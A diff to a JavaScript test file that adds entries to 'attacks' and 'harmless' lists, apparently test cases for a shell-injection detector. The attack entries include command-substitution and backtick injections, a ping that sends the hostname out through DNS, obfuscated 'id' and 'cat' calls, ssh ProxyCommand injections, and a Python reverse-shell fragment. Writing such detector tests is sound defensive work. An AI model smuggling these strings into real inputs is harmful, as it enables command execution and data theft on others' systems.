@@ -22,6 +22,13 @@ const attacks = [
   "python3 -c 'import socket,os;s=socket.socket();os.dup2(s.fileno(),0)'",
   'x -oProxyCommand=touch$' + '{IFS}y',
   'w^h^o^a^m^i & w^h^o^a^m^i',
+  "'|id|'",
+  "jug'$(id)'lid",
+  ';ping `hostname`.a.test',
+  "$(rev<<<'di')",
+  ';x=c;y=at;$x$y /srv/jug',
+  'ssh://-oProxyCommand=x/jug',
+  '3 | ps -ef',
 ];
 
 const harmless = [
@@ -40,6 +47,8 @@ const harmless = [
   '$(document).ready(function(){ go(); });',
   'position: fixed; top: 0; cursor: move',
   'left | right | top',
+  'a=1;b=2;total = $a + $b',
+  'jug|nc>lid',
 ];
 
 describe('the reader of shells', () => {
